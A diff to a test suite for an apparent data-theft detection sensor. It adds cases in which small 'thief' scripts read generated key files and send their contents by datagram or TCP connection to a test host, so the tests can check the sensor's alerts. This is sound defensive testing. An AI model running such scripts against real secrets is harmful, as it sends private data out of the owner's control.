@@ -2,6 +2,7 @@
 """S04, S05, S08, and [Allow] rules: attacks on the state of the sensor."""
 
 import os
+import signal
 import subprocess
 import sys
 import time
@@ -103,6 +104,57 @@ def repeats_at_window_end(stage):
         require(process.poll() is None, "it is still running")
     finally:
         process.communicate()
+
+
+# Opens each file in turn and sends a datagram, or a line on one connection. "sent" after all of them.
+SEND_EACH = """
+import socket, sys
+kind, address, *paths = sys.argv[1:]
+sock = socket.socket(type=socket.SOCK_DGRAM if kind == "datagrams" else socket.SOCK_STREAM)
+if kind != "datagrams":
+    sock.connect((address, 443))
+for path in paths:
+    secret = open(path, "rb").read()
+    sock.sendto(secret, (address, 9)) if kind == "datagrams" else sock.sendall(secret)
+print("sent", flush=True)
+sys.stdin.read()
+"""
+
+
+def harmless_first(stage, kind, n_harmless):
+    """Each file that is new at the destination has its alert, which names it; one that was named is a repeat."""
+    keys = [stage.home.key()[0].decode() for _ in range(n_harmless + 1)]
+    process = stage.net.popen([sys.executable, "-c", SEND_EACH, kind, HOST_V4, *keys, keys[-1], keys[-1]],
+                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+    try:
+        require_equal(process.stdout.readline(), "sent\n", "the thief")
+        for key in keys:
+            alert = stage.bw.wait_alert(
+                lambda a, key=key: a["process"]["pid"] == process.pid and a["files"][0]["path"] == key, f"of {key}")
+            require(key in alert["summary"], f"summary: {alert['summary']}")
+    finally:
+        process.communicate()
+    stage.bw.prove_delivered(stage.net, stage.home)
+    ours = stage.bw.find(lambda a: a["process"]["pid"] == process.pid and a["repeats"] == 0)
+    require_equal(len(ours), len(keys), "alerts")
+
+
+def harmless_from_others(stage):
+    """The key was read before the harmless file, by a process that hands it on only after that one was sent."""
+    harmless, key = (stage.home.key()[0].decode() for _ in range(2))
+    script = ("import socket, sys; to = (sys.argv[1], 9); sock = socket.socket(type=socket.SOCK_DGRAM); "
+              "open(sys.argv[2]).read(); sock.sendto(b'x', to); print('sent', flush=True); "
+              "sock.sendto(sys.stdin.buffer.read(), to)")
+    with subprocess.Popen(["sh", "-c", 'key=$(cat "$0"); kill -STOP $$; echo "$key"', key],
+                          stdout=subprocess.PIPE) as giver:
+        require(os.WIFSTOPPED(os.waitpid(giver.pid, os.WUNTRACED)[1]), "the giver has not stopped")
+        thief = stage.net.popen([sys.executable, "-c", script, HOST_V4, harmless], stdin=giver.stdout,
+                                stdout=subprocess.PIPE, text=True)
+        require_equal(thief.stdout.readline(), "sent\n", "the thief")
+        giver.send_signal(signal.SIGCONT)
+        thief.communicate()
+    alert = stage.bw.wait_alert(lambda a: a["process"]["pid"] == thief.pid and key in a["summary"], f"that names {key}")
+    require_equal([entry["path"] for entry in alert["files"]], [harmless, key], "files, the latest first")
 
 
 def require_reload(stage, text="policy reloaded"):
@@ -223,6 +275,10 @@ def part(t, stage, exes):
     t.case("S04 left in a file for the window to end", left_for_the_window, stage)
     t.case("S04 waits for the window to end", waits_for_the_window, stage)
     t.case("repeats: written at the end of the window", repeats_at_window_end, stage)
+    t.case("S13 a harmless file first, datagrams", harmless_first, stage, "datagrams", 1)
+    t.case("S13 a harmless file first, one connection", harmless_first, stage, "stream", 1)
+    t.case("S13 more harmless files first than a mark lists", harmless_first, stage, "datagrams", 10)
+    t.case("S13 a harmless file read later, and sent first", harmless_from_others, stage)
     t.case("S08 a mark survives a reload", reload_between, stage)
     t.case("a class is added and removed by reload", new_class_on_reload, stage, policy_dir)
     t.case("S08 a bad policy on reload keeps the old one", bad_reload, stage, policy_dir)
